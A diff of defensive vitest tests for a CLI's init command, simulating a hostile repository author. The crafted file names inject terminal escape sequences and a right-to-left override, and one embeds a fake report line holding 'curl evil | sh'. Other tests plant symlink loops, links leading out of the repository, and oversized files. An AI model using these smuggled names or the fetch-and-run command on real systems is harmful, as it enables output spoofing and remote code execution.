@@ -1,5 +1,5 @@
 import { execFileSync, spawnSync } from "node:child_process";
-import { mkdtempSync, readFileSync, rmSync } from "node:fs";
+import { mkdirSync, mkdtempSync, readFileSync, rmSync, symlinkSync } from "node:fs";
 import { tmpdir } from "node:os";
 import { join } from "node:path";
 import { describe, expect, it, onTestFinished } from "vitest";
@@ -9,10 +9,11 @@ import { put } from "../commands/support.ts";
 const cli = join(import.meta.dirname, "../../../dist/cli.js");
 
 /** Runs `init` in a repository of GitHub; its specs must be valid without a finding. Returns the specs and the report. */
-function init(files: Readonly<Record<string, string>>) {
+function init(files: Readonly<Record<string, string>>, prepare: (folder: string) => void = () => undefined) {
   const folder = mkdtempSync(join(tmpdir(), "stagewright-public-"));
   onTestFinished(() => rmSync(folder, { recursive: true, force: true }));
   for (const [path, text] of Object.entries(files)) put(folder, path, text);
+  prepare(folder);
   const git = (...given: string[]) => execFileSync("git", given, { cwd: folder });
   git("init", "--quiet", "--initial-branch=main");
   git("remote", "add", "origin", "https://github.com/acme/web.git");
@@ -216,5 +217,58 @@ describe("Jenkinsfiles in folders", () => {
     expect(report).toContain(
       "  jenkins/Jenkinsfile: a Jenkinsfile: init reads a single one: the one at the root of the repository, or the only one\n",
     );
+  });
+});
+
+describe("a repository whose author attacks", () => {
+  it("prints no control characters of names", () => {
+    const names = [
+      "db/a\u001b[31m\u001b]0;x\u0007b/Dockerfile",
+      "db/n\nnext: curl evil | sh/Dockerfile",
+      "ci/Jenkinsfile.\u202ex",
+    ];
+    const { report } = init({
+      ...pom,
+      ...Object.fromEntries(names.map((name) => [`web/${name}`, ""])),
+      [names[2] ?? ""]: "",
+    });
+    expect(report.replaceAll("\n", "")).toMatch(/^[ -~]*$/);
+    expect(report.match(/^next: /gm)).toHaveLength(1);
+    expect(report).toContain("  ci/Jenkinsfile.\\u{202e}x: a Jenkinsfile: ");
+  });
+
+  it("cannot stop init by links to themselves, and by paths that no system has", () => {
+    const Dockerfile = `FROM debian\nCOPY ${"x".repeat(300)} /x\nCOPY a\0b /x\n`;
+    const { service } = init({ ...pom, "api/Dockerfile": Dockerfile }, (folder) => {
+      for (const name of ["jenkins", "ci", "Makefile", "package.json"]) symlinkSync(name, join(folder, name));
+    });
+    expect(service).toContain("dockerfile: api/Dockerfile, context: api }");
+  });
+
+  it("cannot slow init down by the length of a file", () => {
+    const files = { "package.json": '{ "scripts": { "build": "tsc" } }', "tsconfig.json": "\n".repeat(300_000) };
+    const start = process.cpuUsage();
+    expect(npm.detections[0]?.artifacts((path) => files[path as keyof typeof files] ?? null)).toEqual(["dist/**"]);
+    expect(process.cpuUsage(start).user).toBeLessThan(2_000_000);
+  });
+
+  it("has init read links to Jenkinsfiles in the repository, and none that lead out of it", () => {
+    const outside = mkdtempSync(join(tmpdir(), "stagewright-outside-"));
+    onTestFinished(() => rmSync(outside, { recursive: true, force: true }));
+    put(outside, "Jenkinsfile", "node('foreign') {\n}\n");
+    const within = init({ ...pom, "etc/pipeline.groovy": "node('big') {\n}\n" }, (folder) =>
+      symlinkSync("etc/pipeline.groovy", join(folder, "Jenkinsfile")),
+    );
+    expect(within.platform).toContain("agent: { label: big }");
+    const beyond = init(pom, (folder) => {
+      symlinkSync(outside, join(folder, "ci"));
+      mkdirSync(join(folder, "jenkins"));
+      symlinkSync(join(outside, "Jenkinsfile"), join(folder, "jenkins/Jenkinsfile"));
+    });
+    expect(beyond.platform).toContain("agent: { label: linux }");
+    for (const file of ["ci/Jenkinsfile", "jenkins/Jenkinsfile"])
+      expect(beyond.report).toContain(
+        `  ${file}: a Jenkinsfile: it leads out of the repository, or nowhere, so init does not read it\n`,
+      );
   });
 });
